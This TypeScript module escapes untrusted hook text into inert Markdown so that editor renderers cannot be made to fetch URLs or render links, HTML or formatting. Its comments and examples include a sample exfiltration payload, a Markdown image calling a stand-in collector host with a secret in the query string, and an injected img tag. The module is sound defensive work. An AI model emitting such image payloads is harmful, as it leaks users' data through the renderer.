/**
 * Untrusted text for a sink that renders Markdown (an ACP editor's message,
 * thought and tool-call content). Printable is not enough there: Markdown is
 * printable, and a hook's `![](https://collector.example/?d=<secret>)` would
 * make the editor fetch a URL — a hook granted no network would leak what it
 * inspected through the editor's renderer. Text made *inert* renders as
 * exactly its printable characters: no image, link, autolink, HTML, entity,
 * reference definition, heading, list, quote, table, fence or emphasis.
 *
 * How: after {@link printableLines}, every ASCII punctuation character is
 * backslash-escaped. That is exactly the set CommonMark lets a backslash
 * escape, and an escaped character is always a literal character: it opens
 * no inline construct (`!`, `[`, `]`, `<`, `&`, `` ` ``, `*`, `_`, `~`, `|`,
 * `$`, `:` …) and no block marker at a line start (`#`, `>`, `-`, `+`, `*`,
 * `1.`, `1)`, `=`/`-` setext underlines, fences, table delimiter rows,
 * `[x]:` definitions, `<` HTML blocks). Nothing but a backslash can be
 * escaped in CommonMark, and a backslash is escaped too, so a hook cannot
 * cancel an escape. Escaping the `.`, `:` and `@` of every URL, domain and
 * e-mail address also breaks the GFM bare autolinks (`www.x.com`,
 * `https://x`, `a@b.c`) and linkify-it's fuzzy links (`x.com`): those
 * extensions match raw source text, and an escape splits it, while the
 * rendered text still reads `https://collector.example/…`. A zero-width
 * character would not do: the sanitiser escapes format characters, and a
 * URL with an invisible character inside is a trap for whoever copies it.
 *
 * Where no punctuation is involved, CommonMark still reads line structure:
 * four leading spaces make an indented code block (which would show the
 * escapes as backslashes), so leading spaces become no-break spaces (U+00A0,
 * not indentation to CommonMark, still a space to the reader); a line break
 * between two lines becomes a hard break (`\` at the end of the line), so
 * the lines stay lines; an empty line stays a paragraph break.
 *
 * Chosen over a fenced code block, which is inert too (with a fence longer
 * than any backtick run in the text, the text cannot close it): a code
 * block cannot sit inside the host's sentence (`Tool call denied by a hook:
 * <reason>`), shows prose as code, and is only as inert as the renderer's
 * fence handling, where an escape relies on the one rule every CommonMark
 * renderer shares.
 *
 * Only for text a person reads through a Markdown renderer. Text the model
 * reads (a replaced tool result, additional context, a deny reason an agent
 * forwards to its model) stays printable, unescaped: the model must read the
 * hook's words, not their escapes.
 */
import { type PrintableLinesOptions, type PrintableOptions, printable, printableLines } from './untrusted-text.ts';

/** `!"#$%&'()*+,-./:;<=>?@[\]^_\`{|}~`: CommonMark's ASCII punctuation, every character a backslash may escape. */
const ASCII_PUNCTUATION = /[!-/:-@[-`{-~]/g;

/** Leading spaces, which CommonMark counts as indentation (a tab was already escaped by the sanitiser). */
const LEADING_SPACES = /^ +/;

const NO_BREAK_SPACE = '\u00a0';

/**
 * One printable line as Markdown that renders as exactly that line. Trailing
 * spaces are dropped (two of them would be a hard break).
 */
function escapeLine(line: string): string {
  return line
    .replace(/ +$/, '')
    .replace(ASCII_PUNCTUATION, '\\$&')
    .replace(LEADING_SPACES, (spaces) => NO_BREAK_SPACE.repeat(spaces.length));
}

/**
 * One line of untrusted text as inert Markdown: {@link printable} (a newline
 * shows as `\n`), then escaped so a CommonMark renderer shows it literally —
 * no image, link, autolink, HTML, entity or emphasis. For a one-line field
 * in a Markdown sink (one hook's reason in a list of them).
 *
 * @example
 * inertMarkdownLine('![x](https://e.example/?d=1)') // '\\!\\[x\\]\\(https\\:\\/\\/e\\.example\\/\\?d\\=1\\)'
 */
export function inertMarkdownLine(text: string, options: PrintableOptions = {}): string {
  return escapeLine(printable(text, options));
}

/**
 * Multi-line untrusted text as inert Markdown: each line of
 * {@link printableLines} escaped as {@link inertMarkdownLine} does, lines
 * joined by hard breaks (`\` at the end of the line) so they render as
 * lines, blank lines kept as paragraph breaks. Rendered by any CommonMark
 * renderer (GFM autolinks and linkify included), its text is the printable
 * text, whitespace aside, and holds no element but paragraphs and breaks.
 *
 * @example
 * inertMarkdown('# Hi\n<img src=x>') // '\\# Hi\\\n\\<img src\\=x\\>'
 */
export function inertMarkdown(text: string, options: PrintableLinesOptions = {}): string {
  const lines = printableLines(text, options).map(escapeLine);
  let markdown = '';
  lines.forEach((line, index) => {
    if (index > 0) {
      // A hard break only inside a paragraph: at a paragraph's end CommonMark shows the backslash.
      const inParagraph = line !== '' && lines[index - 1] !== '';
      markdown += inParagraph ? '\\\n' : '\n';
    }
    markdown += line;
  });
  return markdown;
}
